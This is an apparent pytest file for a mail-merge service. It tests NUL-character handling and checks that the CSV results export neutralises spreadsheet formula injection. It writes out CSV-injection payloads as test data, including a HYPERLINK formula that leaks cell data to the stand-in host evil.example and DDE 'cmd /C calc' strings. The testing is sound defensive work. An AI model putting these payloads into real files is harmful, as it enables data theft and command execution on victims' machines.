"""Recipient lists with hostile cells: NUL characters are reported by row and column (PostgreSQL
cannot store them), and the results export never hands a spreadsheet a formula."""

from __future__ import annotations

import csv
import io
from typing import Any

from mailmerger_shared.csv_export import FORMULA_TRIGGERS
from tests.queue.world import World

FORMULA_CELLS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Open")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\r=1+1",
]


async def _campaign(world: World, user: int, account: int, **fields: Any) -> int:
    world.fake.add_template(user, 5, subject="Hi {{name}}", html="<p>Dear {{name}}</p>")
    body = {"name": "Export", "account_id": account, "template_id": 5, "template_version": 1, **fields}
    response = await world.client.post("/v1/campaigns", json=body, headers=world.auth(user))
    assert response.status_code == 201, response.text
    campaign_id: int = response.json()["id"]
    return campaign_id


def _csv(rows: list[list[str]]) -> bytes:
    buffer = io.StringIO()
    csv.writer(buffer).writerows(rows)
    return buffer.getvalue().encode()


async def _put_csv(world: World, user: int, campaign_id: int, body: bytes) -> Any:
    return await world.client.put(
        f"/v1/campaigns/{campaign_id}/recipients",
        content=body,
        headers={**world.auth(user), "content-type": "text/csv"},
    )


async def test_results_export_neutralises_cells_that_would_run_as_formulas(world: World) -> None:
    """Addresses and details quoting recipients' data come back behind a ``'``, quoted, so a
    spreadsheet shows them as text (OWASP CSV injection); every other cell is as it was."""
    user, account = await world.user_with_account()
    campaign_id = await _campaign(world, user, account, attachments_column="files")
    rows = [["email", "name", "files"], ["ada@example.com", "Ada", ""]]
    rows += [[cell, "Eve", ""] for cell in FORMULA_CELLS]
    rows.append(["bob@example.com", "Bob", "=cmd|' /C calc'!A0"])
    built = await _put_csv(world, user, campaign_id, _csv(rows))
    assert built.status_code == 200, built.text

    response = await world.client.get(f"/v1/campaigns/{campaign_id}/results.csv", headers=world.auth(user))
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/csv")
    assert response.headers["x-content-type-options"] == "nosniff"
    exported = list(csv.reader(io.StringIO(response.text, newline="")))
    header, first, *hostile, attachment = exported
    assert header == [
        "row",
        "address",
        "state",
        "problem",
        "sent_at",
        "gmail_id",
        "reason",
        "detail",
        "step",
        "stop_reason",
        "response",
        "responded_at",
    ]
    assert first[:3] == ["1", "ada@example.com", "not launched"]
    # The stored address is the cell, trimmed: the CR of the last one goes, its formula stays.
    assert [row[1] for row in hostile] == ["'" + cell.strip() for cell in FORMULA_CELLS]
    assert all(row[3] == "invalid_address" for row in hostile)
    assert attachment[3] == "unknown_attachment"
    for row in exported:
        for cell in row:
            assert not cell.startswith(FORMULA_TRIGGERS), (row, cell)
    for line in response.text.splitlines():
        for cell in FORMULA_CELLS:
            assert f",{cell.strip()}" not in line  # never unquoted in the raw file


async def test_a_nul_in_a_csv_cell_is_a_row_problem_naming_the_column(world: World) -> None:
    """A NUL in a cell (which PostgreSQL refuses) makes that row a malformed_row naming the column
    and the row; the other rows are built as usual (it was a 500 for the whole list)."""
    user, account = await world.user_with_account()
    campaign_id = await _campaign(world, user, account)
    body = b"email,name\r\nada@example.com,Ada\r\nbob@example.com,B\x00b\r\n"
    response = await _put_csv(world, user, campaign_id, body)
    assert response.status_code == 200, response.text
    assert response.json() == {"rows": 2, "valid": 1, "problems": {"malformed_row": 1}}
    report = (await world.client.get(f"/v1/campaigns/{campaign_id}/report", headers=world.auth(user))).json()
    [problem] = report["problems"]
    assert (problem["row"], problem["problem"]) == (2, "malformed_row")
    assert problem["detail"] == (
        "the 'name' cell contains a NUL character (row 2), which is not text; remove it from the file"
    )


async def test_a_nul_in_the_header_is_a_422_naming_the_column(world: World) -> None:
    """A NUL in a column's name refuses the list, naming the column's position."""
    user, account = await world.user_with_account()
    campaign_id = await _campaign(world, user, account)
    response = await _put_csv(world, user, campaign_id, b"email,na\x00me\r\nada@example.com,Ada\r\n")
    assert response.status_code == 422
    assert response.json()["detail"] == (
        "the header's column 2 contains a NUL character, which is not text; remove it from the file"
    )


async def test_a_nul_in_json_rows_is_a_422_naming_the_row_and_column(world: World) -> None:
    """The JSON form of the list is refused by the kit's guard with the cell's JSON path."""
    user, account = await world.user_with_account()
    campaign_id = await _campaign(world, user, account)
    response = await world.client.put(
        f"/v1/campaigns/{campaign_id}/recipients",
        json={"rows": [{"email": "a@example.com", "name": "A"}, {"email": "b@example.com", "name": "\x00"}]},
        headers=world.auth(user),
    )
    assert response.status_code == 422
    assert response.json()["field"] == "$.rows[1].name"
